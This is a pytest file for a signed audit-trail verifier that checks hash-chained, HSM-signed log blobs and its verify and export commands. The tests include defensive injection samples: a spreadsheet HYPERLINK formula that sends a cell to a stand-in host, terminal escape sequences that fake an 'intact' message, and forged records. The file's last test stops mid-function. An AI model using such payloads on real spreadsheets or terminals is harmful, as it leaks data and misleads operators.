"""The trail verifier against Azurite: an honest multi-chain trail (two containers, several
days, seals, a full blob, a key rotation) verifies; trust pinning, HSM look-ups, ranges, the
``byok audit verify|export`` commands, and the standalone script's verdicts.

The trail builders here are shared with ``test_attacks.py``."""

from __future__ import annotations

import ast
import csv
import hashlib
import io
import itertools
import json
import subprocess
import sys
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from azure.storage.blob import BlobServiceClient
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from byok_pipeline.audit import records
from byok_pipeline.audit.records import (
    SEAL_EVENT,
    START_EVENT,
    Signer,
    blob_name,
    build_batch,
    encode_line,
    new_chain_id,
)
from byok_pipeline.audit.signers import FileSigner, HsmSigner
from byok_pipeline.audit.verify import Report, TrailBlob, TrailReader, Trust, verify_blobs
from byok_pipeline.cli.audit import hsm_key_fetcher
from byok_pipeline.cli.audit import main as audit_main
from byok_pipeline.core.errors import ConfigError
from byok_pipeline.localdev.azurite import Azurite
from managed_hsm_emulator.testing import EmulatorHandle

ROOT = Path(__file__).resolve().parents[2]
STANDALONE = ROOT / "scripts" / "verify_trail_standalone.py"
DAY1 = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
DAY2 = DAY1 + timedelta(days=1)
DAY3 = DAY1 + timedelta(days=2)
_NAMES = itertools.count()


# ---------------------------------------------------------------------------------------------
# Building trails


class HsmStyleSigner:
    """A local P-256 key under an HSM-style versioned kid (as the pipeline's HSM key)."""

    def __init__(self, kid: str) -> None:
        self._inner = FileSigner(ec.generate_private_key(ec.SECP256R1()))
        self._kid = kid

    @property
    def kid(self) -> str:
        return self._kid

    @property
    def spki_sha256(self) -> str:
        return self._inner.spki_sha256

    def public_key(self) -> ec.EllipticCurvePublicKey:
        return self._inner.public_key()

    def sign_digest(self, digest: bytes) -> bytes:
        return self._inner.sign_digest(digest)


class Impostor:
    """An attacker's key that claims another signer's kid."""

    def __init__(self, kid: str) -> None:
        self._inner = FileSigner(ec.generate_private_key(ec.SECP256R1()))
        self._kid = kid

    @property
    def kid(self) -> str:
        return self._kid

    @property
    def spki_sha256(self) -> str:
        return self._inner.spki_sha256

    def sign_digest(self, digest: bytes) -> bytes:
        return self._inner.sign_digest(digest)


def file_signer() -> FileSigner:
    return FileSigner(ec.generate_private_key(ec.SECP256R1()))


def stamp(at: datetime) -> str:
    return at.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def pem(key: ec.EllipticCurvePublicKey) -> str:
    return key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    ).decode()


def event(name: str, at: datetime, **fields: Any) -> dict[str, Any]:
    return {
        "event": name,
        "time": stamp(at),
        "pipeline_version": "test",
        "correlation_id": "c0ffee",
        **fields,
    }


def package_events(key: str, n: int, at: datetime) -> list[dict[str, Any]]:
    """The five steps of one package, as the events of one key."""
    sha = hashlib.sha256(f"{key}-{n}".encode()).hexdigest()
    steps = ("received", "validated", "importing", "imported", "verified")
    return [
        event(f"byok.{s}", at, state=s, key_name=key, package_sha256=sha, attempt=1) for s in steps
    ]


@dataclass
class Trail:
    """Trail blobs as stored: (container, blob name) -> lines (each ending in a newline)."""

    blobs: dict[tuple[str, str], list[bytes]] = field(default_factory=dict)

    def lines_of(self, chain_id: str) -> list[tuple[tuple[str, str], int, dict[str, Any]]]:
        """Every record of a chain's blobs in storage order: (blob key, line index, record)."""
        out = []
        for where in self.chain_blobs(chain_id):
            for i, raw in enumerate(self.blobs[where]):
                out.append((where, i, json.loads(raw)))
        return out

    def chain_blobs(self, chain_id: str) -> list[tuple[str, str]]:
        keys = [k for k in self.blobs if f"/{chain_id}/" in k[1]]
        return sorted(keys, key=lambda k: [*k[1].split("/")[1:4], k[1][-10:]])

    def locate(self, chain_id: str, seq: int) -> tuple[tuple[str, str], int]:
        for where, i, record in self.lines_of(chain_id):
            if record["sequence"] == seq and record["chain_id"] == chain_id:
                return where, i
        raise KeyError(seq)

    def record(self, chain_id: str, seq: int) -> dict[str, Any]:
        where, i = self.locate(chain_id, seq)
        return dict(json.loads(self.blobs[where][i]))

    def as_blobs(self) -> list[tuple[TrailBlob, bytes]]:
        out = []
        for (container, name), lines in self.blobs.items():
            blob = TrailBlob.of(container, name)
            assert blob is not None
            out.append((blob, b"".join(lines)))
        return out


@dataclass
class ChainWriter:
    """Writes one chain the way the trail writer does: a start record in the first batch, one
    signed batch per append, a seal when the day changes or a blob is full."""

    trail: Trail
    container: str
    role: str
    signer: Signer
    opened: datetime
    writer: str = "test-writer"
    chain_id: str = ""
    last: dict[str, Any] | None = None
    blob: str = ""
    day: date | None = None
    part: int = 0

    def __post_init__(self) -> None:
        self.chain_id = new_chain_id(self.role, self.opened)

    def append(
        self, events: list[dict[str, Any]], at: datetime, *, signer: Signer | None = None
    ) -> list[dict[str, Any]]:
        if self.day is None:
            self._open(at.date(), 0)
        elif at.date() != self.day:
            self.seal(at, at.date(), 0)
        batch = list(events)
        if self.last is None:
            batch.insert(
                0,
                event(
                    START_EVENT,
                    at,
                    writer_role=self.role,
                    writer=self.writer,
                    signer_kid=self.signer.kid,
                    signer_spki_sha256=self.signer.spki_sha256,
                ),
            )
        return self.write(batch, at, signer=signer)

    def write(
        self, events: list[dict[str, Any]], at: datetime, *, signer: Signer | None = None
    ) -> list[dict[str, Any]]:
        """Append one signed batch to the current blob, as is."""
        batch = build_batch(
            events,
            chain_id=self.chain_id,
            after=self.last,
            recorded=stamp(at),
            signer=signer or self.signer,
        )
        self.trail.blobs[(self.container, self.blob)].extend(encode_line(r) for r in batch)
        self.last = batch[-1]
        return batch

    def seal(self, at: datetime, day: date, part: int) -> None:
        nxt = blob_name(day, self.chain_id, part)
        self.write([event(SEAL_EVENT, at, next_blob=nxt)], at)
        self._open(day, part)

    def next_part(self, at: datetime) -> None:
        """The blob is full: seal it and go on in the next part of the same day."""
        assert self.day is not None
        self.seal(at, self.day, self.part + 1)

    def _open(self, day: date, part: int) -> None:
        self.day, self.part = day, part
        self.blob = blob_name(day, self.chain_id, part)
        self.trail.blobs[(self.container, self.blob)] = []


@dataclass
class World:
    """An honest trail and everything needed to verify it."""

    trail: Trail
    containers: tuple[str, str]
    p1: HsmStyleSigner  # the pipeline's HSM key
    p2: HsmStyleSigner  # its next version (after rotation)
    alice: FileSigner  # a custodian's key file
    a: ChainWriter  # pipeline chain, 3 days, a full blob on day 2
    b: ChainWriter  # pipeline chain, days 1-2
    c: ChainWriter  # pipeline chain after the key rotation (day 3)
    d: ChainWriter  # alice's chain in the people's container, days 1 and 3
    revoked: dict[str, str] = field(default_factory=dict)  # kid -> revoked_after

    def trust_doc(self, *, with_pem: bool = True) -> dict[str, Any]:
        signers: list[dict[str, Any]] = []
        for s, role, name in (
            (self.p1, "pipeline", "pipeline v1"),
            (self.p2, "pipeline", "pipeline v2"),
            (self.alice, "person", "alice"),
        ):
            entry: dict[str, Any] = {
                "kid": s.kid,
                "spki_sha256": s.spki_sha256,
                "role": role,
                "name": name,
            }
            if with_pem or not s.kid.startswith("https://"):
                entry["public_key_pem"] = pem(s.public_key())
            if s.kid in self.revoked:
                entry["revoked_after"] = self.revoked[s.kid]
            signers.append(entry)
        return {"signers": signers}

    def trust(self) -> Trust:
        return Trust.from_dict(self.trust_doc())

    def hsm_keys(self) -> dict[str, ec.EllipticCurvePublicKey]:
        return {self.p1.kid: self.p1.public_key(), self.p2.kid: self.p2.public_key()}

    def write_trust(self, path: Path) -> Path:
        path.write_text(json.dumps(self.trust_doc()), encoding="utf-8")
        return path


def honest_world(containers: tuple[str, str]) -> World:
    pipeline, people = containers
    trail = Trail()
    p1 = HsmStyleSigner("https://hsm.test/keys/byok-audit/0123456789abcdef0123456789abcdef")
    p2 = HsmStyleSigner("https://hsm.test/keys/byok-audit/fedcba9876543210fedcba9876543210")
    alice = file_signer()
    a = ChainWriter(trail, pipeline, "pipeline", p1, DAY1, writer="worker-1")
    b = ChainWriter(trail, pipeline, "pipeline", p1, DAY1 + timedelta(minutes=1), "worker-2")
    c = ChainWriter(trail, pipeline, "pipeline", p2, DAY3, writer="worker-3")
    d = ChainWriter(trail, people, "person", alice, DAY1, writer="alice")
    d.append([event("byok.kek.created", DAY1, kek_kid="https://hsm.test/keys/kek/1")], DAY1)
    for n, day in enumerate((DAY1, DAY2, DAY3)):
        t = day + timedelta(minutes=10)
        steps = package_events("payments", n, t)
        a.append(steps[:2], t)  # received, validated
        a.append(steps[2:3], t + timedelta(seconds=1))  # importing
        a.append(steps[3:], t + timedelta(seconds=2))  # imported, verified
        if day == DAY2:
            a.next_part(t + timedelta(seconds=3))
            a.append(package_events("payments", 10 + n, t)[:3], t + timedelta(seconds=4))
    for n, day in enumerate((DAY1, DAY2)):
        t = day + timedelta(minutes=20)
        steps = package_events("ledger", n, t)
        b.append(steps[:3], t)
        b.append(steps[3:], t + timedelta(seconds=1))
    t = DAY3 + timedelta(minutes=30)
    c.append(package_events("ledger", 7, t)[:2], t)
    c.append(package_events("ledger", 7, t)[2:], t + timedelta(hours=2))
    d.append([event("byok.kek.downloaded", DAY1, kek_kid="https://hsm.test/keys/kek/1")], DAY1)
    d.append([event("byok.policy.changed", DAY3, key_name="payments")], DAY3)
    return World(trail, containers, p1, p2, alice, a, b, c, d)


# ---------------------------------------------------------------------------------------------
# Storage and running


@pytest.fixture
def service(azurite: Azurite) -> Iterator[BlobServiceClient]:
    client = BlobServiceClient.from_connection_string(azurite.connection_string)
    yield client
    client.close()


def new_containers(service: BlobServiceClient) -> tuple[str, str]:
    """A fresh pipeline container and people's container."""
    n = next(_NAMES)
    names = (f"vtrail{n}", f"vpeople{n}")
    for name in names:
        service.create_container(name)
    return names


@pytest.fixture
def containers(service: BlobServiceClient) -> tuple[str, str]:
    return new_containers(service)


@pytest.fixture
def world(containers: tuple[str, str]) -> World:
    return honest_world(containers)


def upload(service: BlobServiceClient, trail: Trail) -> None:
    """Store the trail as the writer does: append blobs, appended to."""
    for (container, name), lines in trail.blobs.items():
        client = service.get_blob_client(container, name)
        client.create_append_blob()
        if lines:
            client.append_block(b"".join(lines))


def verify_stored(
    service: BlobServiceClient,
    world: World,
    *,
    trust: Trust | None = None,
    heads: Mapping[str, Mapping[str, Any]] | None = None,
    fetch: Mapping[str, Any] | None = None,
) -> Report:
    reader = TrailReader(service, *world.containers)
    report, _ = reader.verify(
        trust=trust if trust is not None else world.trust(),
        fetch_key=fetch,
        expected_heads=heads,
    )
    return report


def export_folder(service: BlobServiceClient, containers: tuple[str, str], dest: Path) -> Path:
    """What ``az storage blob download-batch`` of both containers leaves on disk."""
    for container in containers:
        for item in service.get_container_client(container).list_blobs(name_starts_with="trail/"):
            path = dest / container / item.name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(
                service.get_blob_client(container, item.name).download_blob().readall()
            )
    return dest


def run_standalone(
    folder: Path, trust_file: Path, heads_file: Path | None = None
) -> tuple[int, dict[str, int], str]:
    """The standalone script's exit code, first bad sequence per chain, and output."""
    argv = [sys.executable, "-I", str(STANDALONE), str(folder), str(trust_file)]
    if heads_file is not None:
        argv += ["--expect-heads", str(heads_file)]
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120, check=False)
    bad: dict[str, int] = {}
    for line in done.stdout.splitlines():
        parts = line.split()
        if parts[:1] == ["BROKEN"] and len(parts) > 3:
            bad[parts[1]] = int(parts[3].rstrip(":"))
    return done.returncode, bad, done.stdout + done.stderr


def kinds(report: Report) -> set[tuple[str, str, int]]:
    return {(b.chain_id, b.kind, b.sequence) for b in report.breaks}


# ---------------------------------------------------------------------------------------------
# The honest trail


def test_honest_multi_chain_trail_verifies(
    service: BlobServiceClient, world: World, tmp_path: Path
) -> None:
    upload(service, world.trail)
    report = verify_stored(service, world)
    assert report.ok, report.breaks
    assert report.pinned
    assert set(report.chains) == {w.chain_id for w in (world.a, world.b, world.c, world.d)}
    a = report.chains[world.a.chain_id]
    # 1 start + 3 packages x 5 + 3 extra + 2 seals (day 2 part 1, day 3) + 1 seal (full blob)
    assert (a.records, a.blobs, a.role, a.signer_kid, a.trust) == (
        22,
        4,
        "pipeline",
        world.p1.kid,
        "pinned",
    )
    assert a.first_recorded is not None
    assert a.first_recorded.startswith("2026-11-28")
    assert a.last_recorded is not None
    assert a.last_recorded.startswith("2026-11-30")
    d = report.chains[world.d.chain_id]
    assert (d.container, d.role, d.writer, d.signer_kid) == (
        world.containers[1],
        "person",
        "alice",
        world.alice.kid,
    )
    assert report.chains[world.c.chain_id].signer_kid == world.p2.kid
    for w in (world.a, world.b, world.c, world.d):
        assert w.last is not None
        assert report.heads[w.chain_id] == {
            "sequence": w.last["sequence"],
            "record_sha256": w.last["record_sha256"],
        }
    code, bad, out = run_standalone(
        export_folder(service, world.containers, tmp_path / "export"),
        world.write_trust(tmp_path / "trust.json"),
    )
    assert (code, bad) == (0, {}), out
    assert out.splitlines()[-1] == "OK"


def test_pure_and_stored_verification_agree(service: BlobServiceClient, world: World) -> None:
    upload(service, world.trail)
    stored = verify_stored(service, world)
    pure, records_read = verify_blobs(world.trail.as_blobs(), trust=world.trust())
    assert pure.to_dict() == stored.to_dict()
    assert len(records_read) == pure.records == 22 + 12 + 6 + 5


def test_hsm_signers_without_pem_are_fetched_and_pinned(
    service: BlobServiceClient, world: World
) -> None:
    upload(service, world.trail)
    trust = Trust.from_dict(world.trust_doc(with_pem=False))
    report = verify_stored(service, world, trust=trust, fetch=world.hsm_keys())
    assert report.ok, report.breaks
    assert report.pinned
    # the HSM hands out another key under the pinned kid: the signer is not trusted
    swapped = {world.p1.kid: file_signer().public_key(), world.p2.kid: world.p2.public_key()}
    report = verify_stored(service, world, trust=trust, fetch=swapped)
    assert {(b.chain_id, b.kind, b.sequence) for b in report.breaks} == {
        (world.a.chain_id, "unknown_signer", 1),
        (world.b.chain_id, "unknown_signer", 1),
    }


def test_without_trust_hsm_signers_are_unpinned_and_key_files_unknown(
    service: BlobServiceClient, world: World
) -> None:
    upload(service, world.trail)
    reader = TrailReader(service, *world.containers)
    report, _ = reader.verify(fetch_key=world.hsm_keys())
    assert kinds(report) == {(world.d.chain_id, "unknown_signer", 1)}
    assert report.chains[world.a.chain_id].trust == "unpinned"
    assert not report.pinned
    # an HSM kid the HSM does not know
    report, _ = reader.verify(fetch_key={world.p1.kid: world.p1.public_key()})
    assert (world.c.chain_id, "unknown_signer", 1) in kinds(report)


def test_signing_key_fetched_from_the_hsm_through_the_sdk(
    service: BlobServiceClient,
    containers: tuple[str, str],
    hsm: EmulatorHandle,
    azurite: Azurite,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A chain signed inside the (emulated) HSM; its key fetched by kid, as the CLI does."""
    key = hsm.key_client().create_ec_key(
        "verify-test-signer", curve="P-256", key_operations=["sign", "verify"]
    )
    jwk: Any = key.key
    public = ec.EllipticCurvePublicNumbers(
        int.from_bytes(jwk.x, "big"), int.from_bytes(jwk.y, "big"), ec.SECP256R1()
    ).public_key()
    signer = HsmSigner(hsm.crypto_client(str(key.id)), str(key.id), public)
    trail = Trail()
    w = ChainWriter(trail, containers[0], "pipeline", signer, DAY1)
    w.append(package_events("payments", 1, DAY1)[:2], DAY1)
    w.append(package_events("payments", 1, DAY1)[2:], DAY1 + timedelta(seconds=1))
    upload(service, trail)
    reader = TrailReader(service, *containers)
    env = {"BYOK_HSM_CA_BUNDLE": str(hsm.ca)}
    fetch = hsm_key_fetcher(env, only_vault=hsm.url, credential=hsm.credential())
    report, _ = reader.verify(fetch_key=fetch)
    assert report.ok, report.breaks
    assert report.chains[w.chain_id].trust == "unpinned"
    # unpinned: only the configured HSM is asked
    elsewhere = hsm_key_fetcher(env, only_vault="https://other.invalid", credential=None)
    report, _ = reader.verify(fetch_key=elsewhere)
    assert kinds(report) == {(w.chain_id, "unknown_signer", 1)}
    # pinned without a PEM: fetched from the kid's HSM, checked against the pinned SPKI
    trust = Trust.from_dict(
        {"signers": [{"kid": str(key.id), "spki_sha256": signer.spki_sha256, "role": "pipeline"}]}
    )
    pinned = hsm_key_fetcher(env, only_vault=None, credential=hsm.credential())
    report, _ = reader.verify(trust=trust, fetch_key=pinned)
    assert report.ok, report.breaks
    assert report.pinned
    # the CLI without --trust: the key looked up in the configured HSM, reported unpinned
    for name, value in {
        "BYOK_STORAGE": azurite.connection_string,
        "BYOK_HSM_URL": hsm.url,
        "BYOK_HSM_CA_BUNDLE": str(hsm.ca),
        "BYOK_HSM_EMULATOR_DIR": str(hsm.data_dir),
    }.items():
        monkeypatch.setenv(name, value)
    argv = ["verify", "--json", "--container", containers[0], "--people-container", containers[1]]
    assert audit_main(argv) == 0
    out = capsys.readouterr()
    assert json.loads(out.out)["pinned"] is False
    assert "not pinned by --trust" in out.err


def test_range_read_anchors_on_the_record_before(service: BlobServiceClient, world: World) -> None:
    upload(service, world.trail)
    reader = TrailReader(service, *world.containers)
    report, read = reader.verify(DAY2.date(), DAY2.date(), trust=world.trust())
    assert report.ok, report.breaks
    assert {r.record["recorded"][:10] for r in read} <= {"2026-11-29", "2026-11-30"}
    assert world.c.chain_id not in report.chains  # day 3 only
    assert report.chains[world.a.chain_id].signer_kid == world.p1.kid  # from its day-1 start
    # the record before the range was changed: the range cannot be anchored on it
    where, i = world.trail.locate(world.a.chain_id, 7)
    assert where[1].startswith("trail/2026/11/28/")  # the day-1 seal
    tampered = world.trail.blobs[where][i].replace(
        b'"pipeline_version":"test"', b'"pipeline_version":"evil"'
    )
    world.trail.blobs[where][i] = tampered
    service.get_blob_client(*where).delete_blob()
    service.get_blob_client(*where).create_append_blob()
    service.get_blob_client(*where).append_block(b"".join(world.trail.blobs[where]))
    report, _ = reader.verify(DAY2.date(), None, trust=world.trust())
    assert kinds(report) == {(world.a.chain_id, "changed", 7)}


def test_expected_heads_do_not_combine_with_a_range(
    service: BlobServiceClient, world: World
) -> None:
    reader = TrailReader(service, *world.containers)
    with pytest.raises(ValueError, match="whole chains"):
        reader.verify(DAY2.date(), None, expected_heads={})


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda e: e.update(spki_sha256="00" * 32), "does not have that spki_sha256"),
        (lambda e: e.update(role="admin"), "role is not one of"),
        (lambda e: e.update(revoked_after="yesterday"), "revoked_after"),
        (lambda e: e.pop("public_key_pem"), "needs public_key_pem"),
        (lambda e: e.update(extra=1), "unknown fields"),
    ],
)
def test_bad_trust_files_are_refused(world: World, change: Any, message: str) -> None:
    doc = world.trust_doc()
    change(doc["signers"][2])  # alice's key file
    with pytest.raises(ConfigError, match=message):
        Trust.from_dict(doc)


def test_standalone_script_imports_nothing_of_the_project() -> None:
    tree = ast.parse(STANDALONE.read_text(encoding="utf-8"))
    imported = {
        alias.name.split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    } | {
        (node.module or "").split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom)
    }
    allowed = {"__future__", "argparse", "base64", "hashlib", "json", "re", "sys", "datetime"}
    assert imported <= allowed | {"pathlib", "typing", "cryptography"}, imported
    # its copy of the role table is the format's
    namespace: dict[str, Any] = {}
    source = STANDALONE.read_text(encoding="utf-8")
    table = source[source.index("ROLE_EVENTS = {") : source.index("\nNAME = ")]
    exec(compile(table, "ROLE_EVENTS", "exec"), namespace)  # noqa: S102  # our own file's literal
    assert {k: frozenset(v) for k, v in namespace["ROLE_EVENTS"].items()} == records.ROLE_EVENTS


# ---------------------------------------------------------------------------------------------
# The CLI


@pytest.fixture
def cli_env(azurite: Azurite, monkeypatch: pytest.MonkeyPatch, world: World) -> list[str]:
    monkeypatch.setenv("BYOK_STORAGE", azurite.connection_string)
    monkeypatch.delenv("BYOK_STORAGE__blobServiceUri", raising=False)
    monkeypatch.delenv("BYOK_HSM_URL", raising=False)
    monkeypatch.delenv("BYOK_AUDIT_TRUST_FILE", raising=False)
    return ["--container", world.containers[0], "--people-container", world.containers[1]]


def test_cli_verify_json_heads_and_exit_codes(
    service: BlobServiceClient,
    world: World,
    cli_env: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    upload(service, world.trail)
    trust_file = world.write_trust(tmp_path / "trust.json")
    assert audit_main(["verify", "--json", "--trust", str(trust_file), *cli_env]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["ok"] is True
    assert result["pinned"] is True
    assert len(result["heads"]["chains"]) == 4
    heads_file = tmp_path / "heads.json"
    heads_file.write_text(json.dumps(result["heads"]), encoding="utf-8")
    # pinned heads of the intact trail: still intact (a whole report is accepted too)
    report_file = tmp_path / "report.json"
    report_file.write_text(json.dumps(result), encoding="utf-8")
    for pins in (heads_file, report_file):
        argv = ["verify", "--trust", str(trust_file), "--expect-heads", str(pins), *cli_env]
        assert audit_main(argv) == 0
        assert "intact: 4 chain(s)" in capsys.readouterr().out
    # cut chain b's last batch (its last two records): truncated against the pinned heads
    where = world.trail.chain_blobs(world.b.chain_id)[-1]
    client = service.get_blob_client(*where)
    client.delete_blob()
    client.create_append_blob()
    client.append_block(b"".join(world.trail.blobs[where][:-2]))
    assert audit_main(["verify", "--trust", str(trust_file), *cli_env]) == 0
    capsys.readouterr()
    argv = ["verify", "--trust", str(trust_file), "--expect-heads", str(heads_file), *cli_env]
    assert audit_main(argv) == 2
    out = capsys.readouterr().out
    assert f"{world.b.chain_id} sequence 11: truncated at {where[0]}/{where[1]}:" in out
    # the trust file named by the environment (as the local stack sets it)
    monkeypatch.setenv("BYOK_AUDIT_TRUST_FILE", str(trust_file))
    assert audit_main(["verify", *cli_env]) == 0
    assert "intact" in capsys.readouterr().out
    monkeypatch.delenv("BYOK_AUDIT_TRUST_FILE")
    # without --trust: alice's key file cannot be looked up in an HSM
    assert audit_main(["verify", "--json", *cli_env]) == 2
    result = json.loads(capsys.readouterr().out)
    assert {(b["chain_id"], b["kind"]) for b in result["breaks"]} >= {
        (world.d.chain_id, "unknown_signer")
    }
    assert result["pinned"] is False


def test_cli_usage_errors_exit_2_and_input_failures_exit_1(
    world: World, cli_env: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    heads = tmp_path / "heads.json"
    heads.write_text('{"chains": {"x": {"sequence": "1"}}}', encoding="utf-8")
    bad_trust = tmp_path / "trust.json"
    bad_trust.write_text('{"signers": [{"kid": "file:x"}]}', encoding="utf-8")
    usage = [
        ["verify", "--from", "2026-11-29", "--expect-heads", str(heads)],
        ["verify", "--from", "2026-11-30", "--to", "2026-11-29", "--json"],
    ]
    for argv in usage:
        assert audit_main([*argv, *cli_env]) == 2, argv
    assert '"status": "usage"' in capsys.readouterr().out
    cases = [
        ["verify", "--expect-heads", str(heads)],
        ["verify", "--json", "--trust", str(bad_trust)],
        ["verify", "--trust", str(tmp_path / "missing.json")],
    ]
    for argv in cases:
        assert audit_main([*argv, *cli_env]) == 1, argv
    out = capsys.readouterr()
    assert '"status": "failed"' in out.out
    assert "config_error" in out.err


def test_cli_export_merges_chains_by_recorded(
    service: BlobServiceClient,
    world: World,
    cli_env: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # one package whose steps were taken by two workers (a redelivery): chains a and b
    t = DAY3 + timedelta(hours=5)
    steps = package_events("shared", 1, t)
    steps[0]["approvers"] = ["alice", "bob"]
    world.b.append(steps[:2], t)  # b opens day 3 (sealing day 2)
    world.a.append(steps[2:3], t + timedelta(seconds=1))
    world.b.append(steps[3:], t + timedelta(seconds=2))
    world.a.append([dict(steps[4])], t + timedelta(seconds=3))  # a copy, re-emitted on retry
    upload(service, world.trail)
    trust_file = str(world.write_trust(tmp_path / "trust.json"))
    assert audit_main(["export", "--key", "shared", "--trust", trust_file, *cli_env]) == 0
    result = json.loads(capsys.readouterr().out)
    got = [(r["event"], r["chain_id"]) for r in result["records"]]
    a, b = world.a.chain_id, world.b.chain_id
    assert got == [
        ("byok.received", b),
        ("byok.validated", b),
        ("byok.importing", a),
        ("byok.imported", b),
        ("byok.verified", b),
    ]
    assert result["copies_skipped"] == 1
    assert result["trail"]["ok"] is True
    sha = steps[0]["package_sha256"]
    argv = ["export", "--package", sha, "--format", "csv", "--trust", trust_file, *cli_env]
    assert audit_main(argv) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("chain_id,sequence,recorded,time,event,")
    assert len(lines) == 6
    assert '"[""alice"", ""bob""]"' in lines[1]
    assert "{'" not in "\n".join(lines)  # never a Python repr


def test_cli_export_of_a_broken_trail_exits_2(
    service: BlobServiceClient,
    world: World,
    cli_env: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    where, i = world.trail.locate(world.a.chain_id, 2)
    del world.trail.blobs[where][i]
    upload(service, world.trail)
    trust_file = str(world.write_trust(tmp_path / "trust.json"))
    assert audit_main(["export", "--key", "payments", "--trust", trust_file, *cli_env]) == 2
    out = capsys.readouterr()
    assert json.loads(out.out)["records"]
    assert f"{world.a.chain_id} sequence 2: removed" in out.err


@pytest.mark.parametrize(
    "payload",
    [
        "x\r\x1b[2K\x1b[1A\raudit trail intact: 1 chain(s), 7 records in 1 blob(s)\x1b[8m",
        "2026-12-01T01:00:00\ud800",  # a lone surrogate: stdout cannot encode it
    ],
    ids=["terminal-escapes", "lone-surrogate"],
)
def test_a_break_shows_what_a_line_holds_escaped(
    service: BlobServiceClient,
    world: World,
    cli_env: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    payload: str,
) -> None:
    """Whoever can append to the trail chooses what a break quotes: both verifiers print it
    with control characters and unencodable ones escaped, and still report it (exit 2)."""
    w = world.a
    assert w.last is not None
    forged = records.seal_record(
        {
            **event("byok.imported", DAY3, state="imported", key_name="payments"),
            "chain_id": w.chain_id,
            "sequence": w.last["sequence"] + 1,
            "prev_sha256": w.last["record_sha256"],
            "recorded": payload,
        }
    )
    w.trail.blobs[(w.container, w.blob)].append(records.encode_line(forged))
    upload(service, world.trail)
    trust_file = str(world.write_trust(tmp_path / "trust.json"))
    assert audit_main(["verify", "--trust", trust_file, *cli_env]) == 2
    out = capsys.readouterr().out
    assert "audit trail BROKEN" in out
    assert "\x1b" not in out
    assert "\r" not in out
    assert "\ud800" not in out
    assert "\\x1b" in out or "\\ud800" in out
    folder = export_folder(service, world.containers, tmp_path / "export")
    code, bad, text = run_standalone(folder, Path(trust_file))
    assert (code, bad) == (2, {w.chain_id: w.last["sequence"] + 1}), text
    assert "\x1b" not in text
    assert "Traceback" not in text


def test_csv_export_cells_are_no_formulas(
    service: BlobServiceClient,
    world: World,
    cli_env: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Uploaders choose blob names: a cell a spreadsheet would run as a formula gets a leading
    ``'``; a control character is escaped. The JSON export keeps the values as recorded."""
    t = DAY3 + timedelta(hours=5)
    steps = package_events("sheet", 1, t)
    steps[0]["blob_name"] = '=HYPERLINK("https://example.invalid/?"&A2,"open")'
    steps[1]["blob_name"] = "@SUM(1+1)\x1b[8m"
    world.a.append(steps, t)
    upload(service, world.trail)
    trust_file = str(world.write_trust(tmp_path / "trust.json"))
    argv = ["export", "--key", "sheet", "--format", "csv", "--trust", trust_file, *cli_env]
    assert audit_main(argv) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    names = [r["blob_name"] for r in rows if r["blob_name"]]
    assert names == [
        '\'=HYPERLINK("https://example.invalid/?"&A2,"open")',
        "'@SUM(1+1)\\x1b[8m",
    ]
    assert audit_main(["export", "--key", "sheet", "--trust", trust_file, *cli_env]) == 0
    exported = json.loads(capsys.readouterr().out)["records"]
    assert exported[0]["blob_name"] == steps[0]["blob_name"]


def test_export_marks_what_the_verification_vouches_for(
    service: BlobServiceClient,
    world: World,
    cli_env: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A broken trail is exported all the same (exit 2): each record says whether the
    verification vouches for it, and a copy appended by anyone, dated before the signed
    record, does not take that record's place (review finding: forged and genuine records
    looked alike)."""
    t = DAY3 + timedelta(hours=5)
    steps = package_events("marked", 1, t)
    world.a.append(steps, t)
    w = world.a
    assert w.last is not None
    forged = records.seal_record(  # byok.imported again, as an earlier, unsigned record
        {
            **steps[3],
            "chain_id": w.chain_id,
            "sequence": w.last["sequence"] + 1,
            "prev_sha256": w.last["record_sha256"],
            "recorded": stamp(t - timedelta(hours=1)),
        }
    )
    w.trail.blobs[(w.container, w.blob)].append(records.encode_line(forged))
    upload(service, world.trail)
    trust_file = str(world.write_trust(tmp_path / "trust.json"))
    argv = ["export", "--key", "marked", "--trust", trust_file, *cli_env]
    assert audit_main(argv) == 2  # broken: the unsigned record
    exported = json.loads(capsys.readouterr().out)
    assert exported["copies_skipped"] == 1
    got = [(r["event"], r["sequence"], r["trail_verified"]) for r in exported["records"]]
    assert all(verified for _, _, verified in got), got
    assert forged["sequence"] not in [seq for _, seq, _ in got]
    assert [e for e, _, _ in got] == [s["event"] for s in steps]

    extra = records.seal_record(  # a record of its own (not a copy): exported, not vouched for
        {
            **event("byok.rejected", t, state="rejected", key_name="marked"),
            "chain_id": w.chain_id,
            "sequence": forged["sequence"] + 1,
            "prev_sha256": forged["record_sha256"],
            "recorded": stamp(t + timedelta(minutes=1)),
        }
    )
    blob = service.get_blob_client(w.container, w.blob)
    blob.append_block(records.encode_line(extra))
    assert audit_main([*argv, "--format", "csv"]) == 2
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
